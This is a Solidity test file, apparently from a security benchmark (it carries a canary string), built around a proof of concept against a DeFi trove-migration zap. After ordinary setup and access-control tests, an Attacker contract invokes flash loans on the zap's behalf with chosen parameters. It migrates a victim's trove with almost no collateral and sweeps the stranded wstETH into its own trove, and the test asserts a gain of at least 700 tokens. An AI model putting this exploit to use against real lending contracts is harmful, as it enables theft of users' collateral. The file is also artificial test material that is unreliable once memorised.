// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts@5.4.0/interfaces/IERC3156FlashBorrower.sol";
import "./MigrateTroveZap.sol";
import {DelegatedOps, IPriceFeed} from "./context/BorrowerOperations.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";

// assay-canary-2a43c6dd-4497-4d65-8591-e77ef12b3725

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract WstEth is ERC20("Wrapped liquid staked Ether", "wstETH") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Feed is IPriceFeed {
    function fetchPrice(IERC20) external pure returns (uint256) {
        return 4000e18;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    WstEth internal wstEth;
    DebtToken internal mkUsd;
    BorrowerOperations internal operations;
    TroveManager internal older;
    TroveManager internal newer;
    MigrateTroveZap internal zap;
    Attacker internal thief;

    function setUp() public {
        wstEth = new WstEth();
        mkUsd = new DebtToken();
        operations = new BorrowerOperations(mkUsd, new Feed());
        mkUsd.setOperations(address(operations));
        older = new TroveManager(wstEth, address(operations), 1.1e18);
        newer = new TroveManager(wstEth, address(operations), 1.2e18);
        operations.addManager(older);
        operations.addManager(newer);
        zap = new MigrateTroveZap(operations);
        wstEth.mint(ANA, 1001e18);
        vm.startPrank(ANA);
        wstEth.approve(address(operations), type(uint256).max);
        wstEth.approve(address(zap), type(uint256).max);
        operations.openTrove(older, ANA, 1000e18, 1_000_000e18);
        operations.setDelegateApproval(address(zap), true);
        vm.stopPrank();
        thief = new Attacker(wstEth, mkUsd, operations, older, newer, zap);
        wstEth.mint(address(thief), 1e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        zap.migrateTrove(older, newer, 1e18);
        (uint256 collateral, uint256 debt) = newer.troves(ANA);
        require(collateral == 1001e18 && debt == 1_000_000e18, "moved");
        (collateral, debt) = older.troves(ANA);
        require(collateral == 0 && debt == 0, "gone from the old manager");
        require(mkUsd.balanceOf(ANA) == 1_000_000e18 && mkUsd.totalSupply() == 1_000_000e18, "the loan is repaid");
        require(wstEth.balanceOf(address(newer)) == 1001e18 && wstEth.balanceOf(address(zap)) == 0, "nothing stays");
        operations.closeTrove(newer, ANA);
        require(wstEth.balanceOf(ANA) == 1001e18 && mkUsd.totalSupply() == 0, "closed");
        operations.openTrove(older, ANA, 500e18, 400_000e18);
        zap.migrateTrove(older, newer, 0);
        (collateral, debt) = newer.troves(ANA);
        require(collateral == 500e18 && debt == 400_000e18, "moved again");
        operations.closeTrove(newer, ANA);
        require(wstEth.balanceOf(ANA) == 1001e18 && mkUsd.totalSupply() == 0, "closed again");
        operations.openTrove(older, ANA, 100e18, 100_000e18);
        operations.addCollateral(older, ANA, 10e18);
        (collateral, ) = older.troves(ANA);
        require(collateral == 110e18, "topped up");
        mkUsd.transfer(BEN, 10e18);
        mkUsd.approve(BEN, 5e18);
        operations.setDelegateApproval(BEN, true);
        wstEth.transfer(BEN, 1e18);
        vm.stopPrank();
        vm.startPrank(BEN);
        wstEth.approve(address(operations), 1e18);
        operations.addCollateral(older, ANA, 1e18);
        (collateral, ) = older.troves(ANA);
        require(collateral == 111e18, "by a delegate");
        mkUsd.transferFrom(ANA, BEN, 5e18);
        vm.stopPrank();
        require(mkUsd.balanceOf(BEN) == 15e18 && mkUsd.allowance(ANA, BEN) == 0, "paid");
        operations.transferOwnership(BEN);
        vm.prank(BEN);
        operations.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        bytes memory notOwner = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN);
        vm.expectRevert(notOwner);
        operations.addManager(older);
        vm.expectRevert(notOwner);
        mkUsd.setOperations(BEN);
        bytes memory notOperations = abi.encodeWithSelector(DebtToken.NotOperations.selector, BEN);
        vm.expectRevert(notOperations);
        mkUsd.mint(BEN, 1);
        vm.expectRevert(notOperations);
        mkUsd.burn(ANA, 1);
        vm.expectRevert(notOperations);
        older.store(BEN, 1, 1);
        vm.expectRevert(notOperations);
        older.sendCollateral(BEN, 1);
        bytes memory notDelegate = abi.encodeWithSelector(DelegatedOps.NotDelegate.selector, ANA, BEN);
        vm.expectRevert(notDelegate);
        operations.openTrove(newer, ANA, 1, 1);
        vm.expectRevert(notDelegate);
        operations.closeTrove(older, ANA);
        vm.expectRevert(notDelegate);
        operations.addCollateral(older, ANA, 1);
        vm.expectRevert(abi.encodeWithSelector(MigrateTroveZap.UnexpectedLoan.selector, BEN, address(zap)));
        zap.onFlashLoan(address(zap), address(mkUsd), 1_000_000e18, 0, abi.encode(ANA, older, newer, 1000e18));
        vm.stopPrank();
    }

    function test_RefusesOtherTroves() public {
        TroveManager stray = new TroveManager(wstEth, address(operations), 1);
        TroveManager other = new TroveManager(IERC20(address(mkUsd)), address(operations), 1.1e18);
        bytes memory unknown = abi.encodeWithSelector(BorrowerOperations.UnknownManager.selector, stray);
        vm.startPrank(ANA);
        vm.expectRevert(unknown);
        operations.openTrove(stray, ANA, 1e18, 1e18);
        vm.expectRevert(unknown);
        operations.addCollateral(stray, ANA, 1e18);
        vm.expectRevert(unknown);
        operations.closeTrove(stray, ANA);
        vm.expectRevert(abi.encodeWithSelector(MigrateTroveZap.CollateralDiffers.selector, older, other));
        zap.migrateTrove(older, other, 0);
        vm.expectRevert(abi.encodeWithSelector(MigrateTroveZap.NothingToMove.selector, ANA));
        zap.migrateTrove(newer, older, 0);
        bytes memory none = abi.encodeWithSelector(BorrowerOperations.NoTrove.selector, ANA);
        vm.expectRevert(none);
        operations.closeTrove(newer, ANA);
        vm.expectRevert(none);
        operations.addCollateral(newer, ANA, 1e18);
        vm.expectRevert(none);
        operations.openTrove(newer, ANA, 1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(BorrowerOperations.TroveExists.selector, ANA));
        operations.openTrove(older, ANA, 1e18, 1e18);
        vm.expectRevert(abi.encodeWithSelector(BorrowerOperations.BelowMinimumRatio.selector, 1.2e18 - 1));
        operations.openTrove(newer, ANA, 0.3e18, 1000e18 + 1);
        operations.openTrove(newer, ANA, 0.3e18, 1000e18);
        vm.stopPrank();
    }

    function exploit() public {
        thief.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(wstEth.balanceOf(address(thief)) >= 700e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(wstEth);
    }

    function target() public view returns (address) {
        return address(zap);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Takes the loan itself, moves the owner's trove with less collateral, and its own with what is left over.
contract Attacker {
    WstEth internal wstEth;
    DebtToken internal mkUsd;
    BorrowerOperations internal operations;
    TroveManager internal older;
    TroveManager internal newer;
    MigrateTroveZap internal zap;

    constructor(
        WstEth wstEth_,
        DebtToken mkUsd_,
        BorrowerOperations operations_,
        TroveManager older_,
        TroveManager newer_,
        MigrateTroveZap zap_
    ) {
        (wstEth, mkUsd, operations, older, newer, zap) = (wstEth_, mkUsd_, operations_, older_, newer_, zap_);
    }

    function run(address owner) external {
        wstEth.approve(address(operations), 1e18);
        operations.openTrove(older, address(this), 1e18, 100e18);
        operations.setDelegateApproval(address(zap), true);
        (, uint256 debt) = older.troves(owner);
        uint256 least = debt * 12 / 40000 + 1;
        mkUsd.flashLoan(zap, address(mkUsd), debt, abi.encode(owner, older, newer, least));
        uint256 rest = wstEth.balanceOf(address(zap)) + 1e18;
        mkUsd.flashLoan(zap, address(mkUsd), 100e18, abi.encode(address(this), older, newer, rest));
        operations.closeTrove(newer, address(this));
    }
}
